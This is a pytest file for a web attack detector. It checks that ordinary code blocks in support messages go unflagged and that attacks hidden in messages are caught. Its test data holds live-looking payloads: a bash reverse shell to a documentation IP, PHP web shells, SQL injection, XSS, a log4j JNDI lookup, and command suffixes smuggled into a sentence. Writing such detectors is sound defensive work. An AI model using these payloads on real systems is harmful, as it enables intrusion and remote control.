"""What a text shows and what it does: blocks of code, sentences, and attacks that hide in them."""

from __future__ import annotations

import pytest

from casemate.engines.web.detectors import detectors
from casemate.engines.web.normalize import normalizers
from casemate.engines.web.normalize.fences import without_fences

BLOCK = b"How does this work?\n\n```%s\n%s\n```\n\nThanks for any help with it"


def found(name: str, value: bytes) -> bool:
    return any(detectors()[name](view) is not None for view in normalizers()["deep"](value))


@pytest.mark.parametrize(
    ("name", "language", "code"),
    [
        ("unix_text", b"bash", b"cd /tmp && wget https://example.com/a.tgz && tar xzf a.tgz\n  | head -5"),
        ("windows_text", b"bat", b"net stop spooler & del /q *.spl"),
        ("php", b"php", b"<?php\n$rows = $pdo->query('SELECT 1');"),
        ("code", b"python", b"import subprocess\nsubprocess.run(['ls', '-l'])"),
        ("sqli_low", b"sql", b"SELECT * FROM a UNION SELECT * FROM b;"),
        ("xss", b"js", b"if (x === 'a') { alert('Failed'); }"),
    ],
)
def test_block_of_code_is_shown_and_no_evidence(name: str, language: bytes, code: bytes) -> None:
    assert not found(name, BLOCK % (language, code))


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("unix_text", b"; id"),
        ("unix_text", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("php", b"<?php system($_GET['c']); ?>"),
        ("php", b"<?=`$_POST[0]`?>"),
        ("sqli_low", b"' or '1'='1"),
        ("xss", b"<img src=x onerror=alert(1)>"),
        ("log4j", b"${jndi:ldap://203.0.113.9/a}"),
    ],
)
def test_attack_in_a_block_of_code_is_evidence(name: str, code: bytes) -> None:
    assert found(name, BLOCK % (b"", code))


@pytest.mark.parametrize("tail", [b"; id", b" && whoami", b"|sleep 10", b"; curl http://203.0.113.9/a"])
def test_sentence_that_ends_with_a_command_is_evidence(tail: bytes) -> None:
    assert found("unix_text", b"Could you please have a look at my order number seven" + tail)


def test_text_before_and_after_blocks_stays() -> None:
    assert without_fences(b"a\n```\nb\n```\nc") == b"a\n\nc"


@pytest.mark.parametrize("value", [b"a\n```\nb", b"no fence", b"a ``` b\n", b"```a```"])
def test_block_that_is_never_closed_stays(value: bytes) -> None:
    assert without_fences(value) == value
